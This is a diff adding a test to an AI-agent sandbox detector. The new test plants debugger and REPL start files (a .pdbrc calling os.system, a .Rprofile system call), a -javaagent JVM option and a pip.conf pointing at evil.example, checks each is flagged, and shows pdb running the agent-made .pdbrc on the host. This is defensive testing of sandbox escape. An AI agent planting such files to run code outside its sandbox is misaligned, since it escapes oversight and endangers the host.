@@ -5,7 +5,7 @@
 // run` is started with. Checked in-process over `plantedSince`, as the fourteenth pass's `.bin` test.
 import t from 'tap';
 import fc from 'fast-check';
-import { execFileSync } from 'node:child_process';
+import { execFileSync, spawnSync } from 'node:child_process';
 import fs from 'node:fs';
 import path from 'node:path';
 import { plantedSince, removeCaches } from '../../sandbox/entry-files.ts';
@@ -525,6 +525,27 @@ t.test('the test runners\' and Svelte\'s configs their editor extensions run on 
   fs.appendFileSync(path.join(work, 'web/jest.config.js'), 'require("child_process").execSync("touch $MARK")\n');
   write('vitest.setup.ts', ''); // loaded by a test run, not by the extension on opening
   t.same(named(), [...made, 'web/jest.config.js'].sort(), 'each made or changed is named; the setup file is not');
+});
+
+t.test('twenty-first pass: start files REPLs and debuggers run from the folder, build tools\' project settings and a venv\'s pip.conf are named when made or changed', async (t) => {
+  const work = tempDir(t, 'hunt21-sandbox-replrc-');
+  const write = writer(work);
+  write('app.py', 'print("app")\n');
+  write('.Rprofile', 'options(digits = 4)\n');
+  write('.venv/pyvenv.cfg', 'home = /usr/bin\n');
+  const since = await tick();
+  const named = (): string[] => plantedSince(since, '', work).planted.map((f) => path.relative(work, f.path)).sort();
+  t.same(named(), [], 'control: files made before the run');
+  const pdbrc = 'import os; os.system("touch " + os.environ["HUNT_MARK"])\ncontinue\n';
+  const made = ['.pdbrc', 'lib/.irbrc', '.pryrc', 'analysis/.Renviron', '.ghci', '.octaverc', '.bazelrc', '.jvmopts', '.sbtopts', '.mvn', 'gradle/wrapper/gradle-wrapper.jar', 'gradle/wrapper/gradle-wrapper.properties'];
+  for (const f of made) if (f === '.mvn') write('.mvn/jvm.config', '-javaagent:x.jar\n'); else write(f, f === '.pdbrc' ? pdbrc : 'x\n');
+  fs.appendFileSync(path.join(work, '.Rprofile'), 'system("touch $MARK")\n');
+  write('.venv/pip.conf', '[global]\nindex-url = https://evil.example/simple\n');
+  t.same(named(), [...made, '.Rprofile', '.venv'].sort(), 'each made or changed is named, the venv by its pip.conf');
+  // The attack: the host's next `python3 -m pdb app.py` in the project runs the agent's .pdbrc.
+  const mark = path.join(work, 'PDB-RAN');
+  spawnSync('python3', ['-m', 'pdb', 'app.py'], { cwd: work, env: { ...process.env, HOME: path.join(work, 'no-home'), HUNT_MARK: mark }, input: '', timeout: 10_000 });
+  t.ok(fs.existsSync(mark), 'pdb on the host ran the .pdbrc the agent made');
 });
 
 t.test('the programs ~/.ssh/config runs by path outside ~/.ssh are read-only inside and named when changed', async (t) => {
